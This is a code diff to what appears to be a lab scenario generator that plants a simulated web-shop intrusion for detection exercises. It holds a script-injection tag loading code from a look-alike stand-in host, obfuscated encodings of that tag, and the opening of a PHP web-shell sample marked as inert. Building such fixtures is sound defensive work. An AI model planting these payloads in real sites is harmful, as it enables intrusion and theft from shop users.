@@ -20,7 +20,8 @@ from sekisho.app.lab.mail import write_mail
 from sekisho.app.lab.planted import Planted
 
 DAY = date(2021, 4, 28)
-ATTACKER = "203.0.113.66"
+ATTACKER = "203.0.113.68"
+"""Nobody else in the lab comes from here: one address in two attacks within days would be one intruder."""
 LOADER = "ajax.googleoapis.example"
 _TAG = f'"><script src=//{LOADER}/j.js></script>'
 SPELLINGS = (
@@ -29,6 +30,8 @@ SPELLINGS = (
     "".join(f"%u{ord(char):04x}" if char in '<>"/=' else char for char in _TAG),
 )
 """The same script in full-width letters, entities without semicolons, and escapes."""
+DAY_OF_ORDERS = 60
+"""Orders of a day or so: the twin's go on after those of the attack, as in one shop no number comes twice."""
 FOLDER = "/upload/save_image"
 SHELL = b"""<?php exit; // laboratory sample: ends here, whoever asks
 $k = "-----BEGIN PUBLIC KEY-----\\nsample\\n-----END PUBLIC KEY-----";
@@ -100,7 +103,7 @@ class ShopCase:
 
 def _steps(planted: dict[str, Any]) -> Iterator[Planted]:
     """Give what a truth says was planted, record by record."""
-    for word, lines in {"order": planted["orders"], **planted["requests"], "report": planted["report"]}.items():
+    for word, lines in {"row": planted["orders"], **planted["requests"], "report": planted["report"]}.items():
         for source, numbers in lines.items():
             yield from (Planted(word, "server", source, str(number)) for number in numbers)
     yield from (Planted("mail", "mail", path, "") for path in planted["mails"])
@@ -167,7 +170,8 @@ def _benign(case: ShopCase) -> tuple[dict[str, bytes], dict[str, Any]]:
     )
     planted = []
     for number, (company, rest, remark) in enumerate(places):
-        order = replace(listed[-1], number=listed[-1].number + 1, at=moment(case.day, f"09:4{number}:11"))
+        order = replace(listed[-1], number=DAY_OF_ORDERS + shop.FIRST_ORDER + len(listed))
+        order = replace(order, at=moment(case.day, f"09:4{number}:11"))
         order = replace(order, company=company, rest=rest, remark=remark)
         planted.append(order)
         listed.append(order)
